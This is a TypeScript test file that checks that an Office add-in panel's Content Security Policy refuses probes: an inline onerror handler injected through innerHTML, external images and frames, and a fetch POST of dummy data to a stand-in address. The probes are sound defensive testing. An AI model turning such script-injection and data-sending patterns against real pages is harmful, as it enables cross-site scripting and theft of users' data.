import { afterAll, beforeAll, expect, it } from "vitest";
import type { Frame } from "playwright-core";
import { openRealGrid, panelOf, type OpenWorkbench } from "./open-workbench.ts";

let opened: OpenWorkbench;
let panel: Frame;
beforeAll(async () => {
  opened = await openRealGrid();
  panel = await panelOf(opened.page);
}, 300_000);
afterAll(() => opened?.close());

/** The directives that the browser names when the page tries something. */
const refusedWhen = (attempt: string) =>
  panel.evaluate(
    (code) =>
      new Promise<string[]>((resolve) => {
        const refused: string[] = [];
        document.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
        const place = document.createElement("div");
        place.innerHTML = code;
        document.body.append(place);
        setTimeout(() => resolve(refused), 500);
      }),
    attempt,
  );

it("lets office.js, the functions and the panel run without one refusal", () => {
  expect(opened.errors.filter((error) => /Content Security Policy/i.test(error))).toEqual([]);
});

it.each([
  ["an inline handler", `<img src="data:," onerror="document.title = 'taken'">`, "script-src-attr"],
  ["a picture from elsewhere", `<img src="https://example.invalid/x.png">`, "img-src"],
  ["a frame from elsewhere", `<iframe src="https://example.invalid/"></iframe>`, "frame-src"],
])("refuses %s", async (_what, markup, directive) => {
  expect(await refusedWhen(markup)).toContain(directive);
});

it("refuses to send anything to another address", async () => {
  const refused = await panel.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener("securitypolicyviolation", (event) => resolve(`${event.effectiveDirective} ${event.blockedURI}`));
        fetch("https://example.invalid/collect", { method: "POST", body: "evidence" }).catch(() => undefined);
      }),
  );
  expect(refused).toBe("connect-src https://example.invalid/collect");
});
